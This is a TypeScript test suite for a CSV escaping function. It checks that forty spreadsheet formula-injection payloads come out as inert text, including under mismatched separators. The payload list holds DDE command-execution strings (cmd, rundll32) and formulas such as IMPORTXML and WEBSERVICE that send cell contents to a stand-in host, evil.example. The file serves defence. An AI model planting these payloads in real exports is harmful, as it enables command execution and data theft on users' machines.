import { describe, expect, test } from 'vitest';
import { csvCell, csvLine } from './csv-cell.ts';

const payloads = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","Click")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1:A9),"//a")',
  '=WEBSERVICE("https://evil.example")',
  '=IMAGE("https://evil.example/x.png")',
  '=DDE("cmd";"/C calc";"x")',
  '=SUM(1+1)*cmd|" /C calc"!A0',
  '=2+5+cmd|" /C calc"!A0',
  '=rundll32|"URL.dll,OpenURL calc.exe"!A',
  '=-1',
  '==1',
  '= 1',
  '=\t1',
  '=',
  '+1+1',
  '+cmd|"/C calc"!A0',
  '+33 1 23 45 67 89',
  '++1',
  '+',
  '-1+1',
  '-cmd|"/C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '--1',
  '-',
  '@SUM(1+1)',
  '@cmd',
  '@@',
  '@',
  '\t=1+1',
  '\t',
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
];

test('there are forty payloads', () => {
  expect(new Set(payloads).size).toBe(40);
});

describe('a cell', () => {
  test.each(payloads)('is text: %j', (payload) => {
    const cell = csvCell(payload);
    expect(cell).toMatch(/^"?'/);
    expect(read(cell).replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  });

  test.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "so"', '"say ""so"""'],
    ['two\nlines', '"two\nlines"'],
    [' blank ', '" blank "'],
    ["O'Hara", "O'Hara"],
    ['1-2', '1-2'],
    ['a,-1', `"a,'-1"`],
    ['Paris, 2-4 rue A', '"Paris, 2-4 rue A"'],
    ['青山眼科', '青山眼科'],
  ])('of %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
    expect(read(cell).replaceAll("'", '')).toBe(value.replaceAll("'", ''));
  });
});

describe.each([
  ['comma', ';'],
  ['semicolon', ','],
  ['comma', '\t'],
  ['semicolon', '\t'],
] as const)('a program that splits a line with %ss at %j instead', (separator, other) => {
  test.each([
    ['between separators', (payload: string) => `x${other}${payload}${other}y`],
    ['after blanks', (payload: string) => `x${other}  ${payload}`],
    ['in quotes of its own', (payload: string) => `x${other}"${payload}"`],
    ['in a second line', (payload: string) => `x\n${payload}`],
    ['in front', (payload: string) => `${payload}${other}y`],
  ])('finds no formula %s', (_, around) => {
    for (const payload of payloads) {
      const line = csvLine(['T-1', around(payload), 'end'], separator);
      for (const cell of cellsOf(line, other)) expect(cell).not.toMatch(/^[\s\0]*[=+\-@＝＋－＠]/);
    }
  });
});

test('a line has commas and ends as the standard says', () => {
  expect(csvLine(['a', '=b', 'c,d'], 'comma')).toBe('a,\'=b,"c,d"\r\n');
  expect(csvLine(['a', 'b;c', 'd,e'], 'semicolon')).toBe('a;"b;c";"d,e"\r\n');
});

/** As a reader by the standard understands it. */
function read(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
}

/**
 * The cells of a table as a lenient program reads them: a quote has a meaning at the start of a cell only, and what follows
 * its closing quote belongs to the cell.
 */
function cellsOf(text: string, separator: string): string[] {
  const cell = new RegExp(
    `(?:"((?:[^"]|"")*)"?)?([^${separator}\\r\\n]*)(${separator}|\\r\\n|\\r|\\n|$)`,
    'y',
  );
  const cells: string[] = [];
  while (cell.lastIndex < text.length) {
    const [all, quoted = '', rest = ''] = cell.exec(text) ?? [];
    if (all === undefined) throw new Error(`No cell: ${text}`);
    cells.push(quoted.replaceAll('""', '"') + rest);
  }
  return cells;
}
